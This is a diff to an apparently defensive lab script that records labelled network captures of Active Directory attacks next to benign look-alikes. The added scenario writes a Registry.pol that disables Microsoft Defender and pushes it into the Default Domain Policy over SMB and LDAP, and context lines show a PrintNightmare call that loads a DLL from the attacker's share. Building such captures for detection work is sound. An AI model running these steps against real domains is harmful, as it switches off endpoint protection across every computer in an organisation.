@@ -6,7 +6,8 @@
 #             netsync smb_ntds_exfil benign_sysvol_read ldap_attribute_recon golden_ticket_rc4 golden_ticket_kvno \
 #             dfs_coerce efs_coerce benign_dfs_query cldap_user_enum benign_dc_locator \
 #             ntlm_relay_drop_mic ntlm_relay_dc_account dnshostname_spoofing benign_computer_rename \
-#             adfs_dkm_read benign_adfs_service_read shadow_credentials dcshadow_registration printnightmare" \
+#             adfs_dkm_read benign_adfs_service_read shadow_credentials dcshadow_registration printnightmare \
+#             gpo_defender_disabled benign_gpo_edit" \
 #        ../shared/lab/make-captures.sh run testdata/lab-extra
 #   sudo ../shared/lab/make-captures.sh down
 # Sourced by the lab script after its own definitions: it uses the lab's framework (cap_begin,
@@ -664,5 +665,68 @@ sc_printnightmare() {
     "PrintNightmare (CVE-2021-34527): with a phished account ($RECON_USER), RpcAddPrinterDriverEx over \\\\pipe\\\\spoolss asking the DC's spooler to install a driver whose data file is a DLL on the attacker's share (\\\\\\\\$ATK_IP\\\\share\\\\evil.dll)."
   on atk 60 -- "$VPY" "$WORK/tools/add_driver.py" "$DOMAIN" "$RECON_USER" "$RECON_PASS" "$DC_IP" "\\\\$ATK_IP\\share\\evil.dll"
   expect 'spoolss.opnum==89'
+  cap_end
+}
+
+SCEN_LIST="$SCEN_LIST gpo_defender_disabled benign_gpo_edit"
+
+# A Registry.pol (PReg) with the given settings: KEY|VALUE|DWORD ... (what the Group Policy
+# editor, SharpGPOAbuse and pyGPOAbuse write into a GPO's Machine folder).
+preg_tool() {
+  mkdir -p "$WORK/tools"
+  cat > "$WORK/tools/preg.py" <<'PYEOF'
+# usage: preg.py OUT 'KEY|VALUE|DWORD' ...
+import struct, sys
+def w(s): return (s + '\0').encode('utf-16-le')
+out = b'PReg' + struct.pack('<I', 1)
+for item in sys.argv[2:]:
+    key, value, data = item.split('|')
+    blob = struct.pack('<I', int(data))
+    out += '['.encode('utf-16-le') + w(key) + ';'.encode('utf-16-le') + w(value) + ';'.encode('utf-16-le')
+    out += struct.pack('<I', 4) + ';'.encode('utf-16-le') + struct.pack('<I', len(blob)) + ';'.encode('utf-16-le')
+    out += blob + ']'.encode('utf-16-le')
+open(sys.argv[1], 'wb').write(out)
+PYEOF
+}
+
+# The Default Domain Policy without a Registry.pol (DC side, before a recording): each edit
+# below writes a new one.
+reset_gpo_pol() {
+  rm -f "$PREFIX/state/sysvol/$DNSDOM/Policies/{31B2F340-016D-11D2-945F-00C04FB984F9}/MACHINE/Registry.pol"
+}
+
+# Writes a Registry.pol into the Default Domain Policy's Machine folder over SMB and bumps
+# the GPO's versionNumber over LDAP, as a GPO edit does.
+gpo_edit() {   # gpo_edit HOST USER PASS POLFILE
+  local host=$1 user=$2 pass=$3 pol=$4 gpo="{31B2F340-016D-11D2-945F-00C04FB984F9}"
+  on "$host" 60 -- smbclient -s "$WORK/client.conf" -U "$DOMAIN\\$user%$pass" --use-kerberos=disabled "//$DC_IP/sysvol" \
+    -c "cd $DNSDOM/Policies/$gpo/MACHINE; put $pol Registry.pol"
+  printf 'dn: CN=%s,CN=Policies,CN=System,%s\nchangetype: modify\nreplace: versionNumber\nversionNumber: %s\n' "$gpo" "$BASEDN" "$((RANDOM + 10))" > "$WORK/tmp/gpo-version.ldif"
+  on "$host" -- ldapmodify -x -H "ldap://$DC_IP" -D "$user@$DNSDOM" -w "$pass" -f "$WORK/tmp/gpo-version.ldif"
+}
+
+sc_gpo_defender_disabled() {
+  preg_tool
+  "$PY" "$WORK/tools/preg.py" "$WORK/tmp/evil.pol" \
+    'Software\Policies\Microsoft\Windows Defender|DisableAntiSpyware|1' \
+    'Software\Policies\Microsoft\Windows Defender\Real-Time Protection|DisableRealtimeMonitoring|1'
+  reset_gpo_pol
+  cap_begin gpo_defender_disabled attack T1562.001 "$ATK_IP" "Default Domain Policy (Registry.pol)" \
+    "Group Policy tampering: with a Domain Admin's credentials ($DA_USER), the Default Domain Policy's Machine\\\\Registry.pol is replaced over SMB with one that turns Microsoft Defender off (DisableAntiSpyware=1, DisableRealtimeMonitoring=1) and the GPO's versionNumber is raised over LDAP, so every computer applies it."
+  gpo_edit atk "$DA_USER" "$DA_PASS" "$WORK/tmp/evil.pol"
+  expect 'smb2.filename contains "Registry.pol"'
+  cap_end
+}
+
+sc_benign_gpo_edit() {
+  preg_tool
+  "$PY" "$WORK/tools/preg.py" "$WORK/tmp/good.pol" \
+    'Software\Policies\Microsoft\Windows\WindowsUpdate\AU|NoAutoRebootWithLoggedOnUsers|1' \
+    'Software\Policies\Microsoft\Windows Defender|PUAProtection|1'
+  reset_gpo_pol
+  cap_begin benign_gpo_edit benign none "$WS_IP" "Default Domain Policy (Registry.pol)" \
+    "An admin's GPO edit from the workstation: Windows Update and Defender PUA protection settings written into the Default Domain Policy's Registry.pol, the version raised."
+  gpo_edit ws "$DA_USER" "$DA_PASS" "$WORK/tmp/good.pol"
+  expect 'smb2.filename contains "Registry.pol"'
   cap_end
 }
